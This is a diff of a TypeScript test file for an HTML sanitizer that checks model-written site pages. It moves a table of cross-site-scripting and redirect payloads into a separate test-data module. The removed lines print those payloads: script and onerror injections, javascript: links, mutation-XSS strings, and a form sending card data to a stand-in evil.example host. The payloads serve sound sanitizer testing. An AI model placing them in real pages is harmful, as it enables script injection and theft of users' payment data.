@@ -1,33 +1,11 @@
 import { describe, expect, it } from "vitest";
 import { fallbackSite } from "./fallback";
 import { sanitizeSiteHtml } from "./sanitize";
-import { PLUMBER } from "./test-data";
+import { ATTACKS, PLUMBER } from "./test-data";
 import { elementsOf, executableParts } from "./test-dom";
 
 const clean = (html: string) => executableParts(sanitizeSiteHtml(html));
 const NOTHING = { scripts: [], handlers: [], codeUrls: [], embeds: [] };
-
-/** Pages a model could write, each trying one way to run code or leave the page. */
-const ATTACKS: Record<string, string> = {
-  "a script": "<p>Hi</p><script>alert(1)</script>",
-  "a script with a source": '<script src="https://evil.example/x.js"></script>',
-  "a script dressed as JSON-LD": '<script type="application/ld+json"></script><script>alert(1)</script>',
-  "JSON-LD that bends the parser": '<script type="application/ld+json"><!--<script>{"a":1}</script>',
-  "inline handlers": `<img src="https://x.example/a.png" onerror="alert(1)"><body onload="alert(2)"><a href="#" OnClick="x()">a</a>`,
-  "javascript: links": `<a href="javascript:alert(1)">a</a><a href=" JaVaScRiPt:alert(1)">b</a><a href="jav&#x09;ascript:alert(1)">c</a>`,
-  "data: links": '<a href="data:text/html,<script>alert(1)</script>">a</a>',
-  "a form posting elsewhere":
-    '<form action="https://evil.example/steal" method="post"><input name="card"><button>Pay</button></form>',
-  "a button posting elsewhere": '<button formaction="https://evil.example/">Go</button>',
-  frames: '<iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src="x.swf">',
-  "a base URL": '<head><base href="https://evil.example/"></head><a href="claim">Claim</a>',
-  "a meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-  "a style in SVG": "<svg><style><img src=x onerror=alert(1)></style></svg>",
-  "a style in MathML": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
-  "a noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
-  "a textarea mutation": "<textarea></textarea/><img src=x onerror=alert(1)></textarea>",
-  "an SVG link": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-};
 
 describe("sanitizeSiteHtml — refuses what runs code or leaves the page", () => {
   it.each(Object.entries(ATTACKS))("removes %s", (_, html) => {
